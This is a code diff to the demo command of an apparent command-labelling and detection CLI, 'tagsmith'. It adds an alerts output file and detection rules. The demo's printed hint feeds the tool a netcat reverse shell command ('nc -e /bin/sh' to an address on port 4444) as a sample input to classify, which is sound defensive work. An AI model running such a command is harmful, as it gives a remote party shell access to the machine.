@@ -30,7 +30,10 @@ export function runCommand(
   return runConfig({ config: loadConfig(configPath), file: configPath }, options, registry, terminal);
 }
 
-/** `tagsmith demo`: the bundled samples through the whole pipeline into `folder`. */
+/** The samples are of one day, and their files are read one behind the other. */
+const spanSecs = 86_400;
+
+/** `tagsmith demo`: the bundled samples through the whole pipeline, rules included, into `folder`. */
 export async function demoCommand(
   folder: string,
   options: RunOptions,
@@ -40,12 +43,14 @@ export async function demoCommand(
   const files = {
     labels: join(folder, "labels.ndjson"),
     verdicts: join(folder, "verdicts.ndjson"),
+    alerts: join(folder, "alerts.ndjson"),
     dead_letters: join(folder, "dead-letters.ndjson"),
   };
   const value = {
     source: { type: "file", paths: [join(bundled.samples(), "*")] },
     sink: { type: "file", ...files, overwrite: true },
     state: { path: ":memory:" },
+    detect: { rules: [bundled.rules()], lateness_secs: spanSecs },
   };
   const config = parseWith(configSchema, value, "demo", "");
   const isSilent = options.json || options.quiet;
@@ -53,7 +58,7 @@ export async function demoCommand(
   const code = await runConfig({ config, file: "demo" }, options, registry, terminal);
   if (!isSilent)
     terminal.out.write(
-      `\nWritten: ${files.labels}, ${files.verdicts}\nTry: npx tagsmith label 'nc -e /bin/sh 203.0.113.10 4444'\n`,
+      `\nWritten: ${files.labels}, ${files.verdicts}, ${files.alerts}\nTry: npx tagsmith label 'nc -e /bin/sh 203.0.113.10 4444'\n`,
     );
   return code;
 }
